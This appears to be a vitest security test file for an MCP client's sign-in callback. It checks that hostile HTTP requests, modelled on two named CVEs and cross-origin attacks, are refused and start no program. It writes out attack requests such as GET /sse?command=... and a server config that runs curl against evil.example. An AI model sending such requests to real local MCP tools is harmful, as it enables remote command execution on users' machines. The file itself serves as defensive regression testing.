import { existsSync } from 'node:fs'
import { chmod, mkdir, writeFile } from 'node:fs/promises'
import { createConnection } from 'node:net'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createHome, finished } from '../fixtures/built-command.ts'
import { type HostileLogin, openHostileLogin } from '../fixtures/hostile-login.ts'
import { listeningAddresses } from '../fixtures/listening-addresses.ts'
import { requires } from '../requires.ts'

// Other clients listened for commands of web pages: GET /sse?transportType=stdio&command=… started a program
// (CVE-2025-49596, CVE-2026-23744). Here nothing listens but a callback, while somebody signs in, and it starts nothing.

let login: HostileLogin
/** Every program that such a request would start leaves its name here. */
let started = ''

beforeAll(async () => {
  const { path } = await createHome()
  started = join(path, 'started')
  const programs = join(path, 'bin')
  await mkdir(programs)
  for (const name of ['echo', 'curl', 'calc', 'npx']) {
    await writeFile(join(programs, name), `#!/bin/sh\necho "$0 $*" >> '${started}'\n`)
    await chmod(join(programs, name), 0o755)
  }
  login = await openHostileLogin({ PATH: `${programs}:${process.env.PATH}` })
}, 120_000)
afterAll(() => login.close())

const connectBody = JSON.stringify({
  serverConfig: { command: 'curl', args: ['http://evil.example/'], env: {} },
  serverId: 'x',
})
const post = (path: string, body: string, type = 'application/json') =>
  `POST ${path} HTTP/1.1\r\nHost: localhost:{port}\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`

test.each<[string, string]>([
  [
    'GET /sse with a command',
    'GET /sse?transportType=stdio&command=echo&args[]=hello-from-brower HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n',
  ],
  [
    'the same as a page of another origin sends it',
    'GET /sse?transportType=stdio&command=echo&args=hello HTTP/1.1\r\nHost: 0.0.0.0:{port}\r\nOrigin: http://evil.example\r\n\r\n',
  ],
  ['GET /stdio with a command', 'GET /stdio?command=calc HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n'],
  ['POST /api/mcp/connect with a server config (CVE-2026-23744)', post('/api/mcp/connect', connectBody)],
  ['the same as a form a page may send unasked', post('/api/mcp/connect', connectBody, 'text/plain')],
  ['POST to the callback path', post('/callback', connectBody)],
  ['POST /mcp with a tool call', post('/mcp', '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{}}')],
  ['GET /config', 'GET /config HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n'],
  [
    'a WebSocket',
    'GET / HTTP/1.1\r\nHost: localhost:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n',
  ],
  [
    'a preflight',
    'OPTIONS /api/mcp/connect HTTP/1.1\r\nHost: localhost:{port}\r\nOrigin: http://evil.example\r\nAccess-Control-Request-Method: POST\r\n\r\n',
  ],
  ['CONNECT', 'CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n'],
])('S18 CVE-2025-49596: %s is refused and starts nothing', async (_what, request) => {
  const answer = await login.send(request.replaceAll('{port}', String(login.port)))
  expect(answer).not.toMatch(/^HTTP\/1\.1 [123]/)
  expect(answer).not.toMatch(/^access-control-/im)
  expect(existsSync(started)).toBe(false)
})

test('S18 CVE-2025-49596: after all of them the sign-in ends well', () => login.expectTheRealOneToWin())

requires('proc', existsSync('/proc/net/tcp'))('S18 CVE-2025-49596: what listens, as the kernel says', () => {
  test('a client with an open session, in the middle of a call: nothing', async () => {
    const { command, as, home } = login
    let listening: string[] | undefined
    as.scripts.mcp = ({ body }) => {
      if (body.includes('tools/call')) listening = listeningAddresses(child.pid ?? 0)
      return undefined
    }
    const child = command.start(['call', as.url, 'whoami'], home)
    child.stdin?.end()
    expect(await finished(child)).toMatchObject({ code: 0, stdout: 'alice\n' })
    expect(listening).toEqual([])
    as.scripts = {}
  })

  test('a sign-in: its callback port on the loopback interface, unreachable from the network', async () => {
    const { command, as, home } = login
    let listening: string[] | undefined
    let reachable: boolean[] = []
    as.intercept = undefined
    as.scripts.authorize = async ({ query }) => {
      listening = listeningAddresses(child.pid ?? 0)
      const port = Number(new URL(query.get('redirect_uri') ?? '').port)
      reachable = await Promise.all(outerAddresses().map((address) => accepts(address, port)))
      return undefined
    }
    const child = command.start(['login', as.url, '--interactive', 'always'], home)
    child.stdin?.end()
    expect((await finished(child)).code).toBe(0)
    expect(listening?.length).toBeGreaterThan(0)
    for (const address of listening ?? []) expect(address).toMatch(/^(127\.0\.0\.1|\[::1\]):\d+$/)
    expect(reachable).not.toContain(true)
  })
})

function outerAddresses(): string[] {
  return Object.values(networkInterfaces())
    .flatMap((addresses) => addresses ?? [])
    .filter(({ internal, address }) => !internal && !address.startsWith('fe80:'))
    .map(({ address }) => address)
}

function accepts(host: string, port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = createConnection({ host, port, timeout: 2000 })
    const end = (answer: boolean) => {
      socket.destroy()
      resolve(answer)
    }
    socket
      .on('connect', () => end(true))
      .on('error', () => end(false))
      .on('timeout', () => end(false))
  })
}
